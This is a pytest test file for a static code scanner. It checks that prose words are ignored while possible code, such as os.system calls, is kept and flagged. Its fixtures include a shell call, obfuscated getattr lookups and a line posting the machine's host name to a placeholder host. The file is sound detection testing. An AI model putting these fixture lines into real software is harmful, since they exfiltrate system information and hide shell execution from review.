"""Words of prose are no names; what may be code stays, whatever stands around it."""

import pytest

from pratique.code import prefilter, prose
from tests.code.reading import FILLER, among_honest, facts


def left(source: bytes) -> frozenset[str]:
    return prose.without(prefilter.scan(source, "python"), source).words()


@pytest.mark.parametrize(
    "source",
    [
        b'"""Works on the operating system you have."""\n',
        b"# see system\n",
        b"x = 1  # the system is\n",
        b'def f():\n    """Make a system call."""\n',
    ],
)
def test_prose_is_no_name(source: bytes) -> None:
    assert "system" not in left(source)


@pytest.mark.parametrize(
    "source",
    [
        b"from os import system\nsystem('x')\n",
        b"import os\nf = os.system\n",
        b"import os\n0or os.system('x')\n",
        b"import os\nfrom os import system as s, popen\n",
        b"f = lambda: system('x')\n",
        b"x = [system for system in y]\n",
        b"x = 'import os; os.system(1)'\n",
        b"import os\ngetattr(os, 'popen system read'.split()[1])('x')\n",
        b'T = """\npopen system read\n""".split()\n',
    ],
)
def test_what_may_be_code_stays(source: bytes) -> None:
    assert "system" in left(source)


def test_tests_are_read_only_where_something_else_imports_them() -> None:
    body = b"import os\nos.system('id > /dev/null')\n"
    sources: dict[str, bytes | str] = {
        "tide/__init__.py": b"import tide.tests.odd\n",
        "tide/honest.py": FILLER,
        "tide/more.py": FILLER,
        "tide/tests/__init__.py": b"",
        "tide/tests/odd.py": body,
    }
    assert "exec/shell" in facts(sources, {"tide/__init__.py": "import"})
    sources["tide/__init__.py"] = b""
    assert "exec/shell" not in facts(sources, {"tide/__init__.py": "import"})


@pytest.mark.parametrize(
    "reached",
    ["getattr(socket, 'gethost' + 'name')()", "socket.gethostname()"],
)
def test_a_host_name_is_found_however_it_is_reached(reached: str) -> None:
    source = f"import socket, requests\nrequests.post('http://a.example/', data={reached})\n"
    assert "discover/host" in facts(among_honest(source), {"tide/odd.py": "import"})
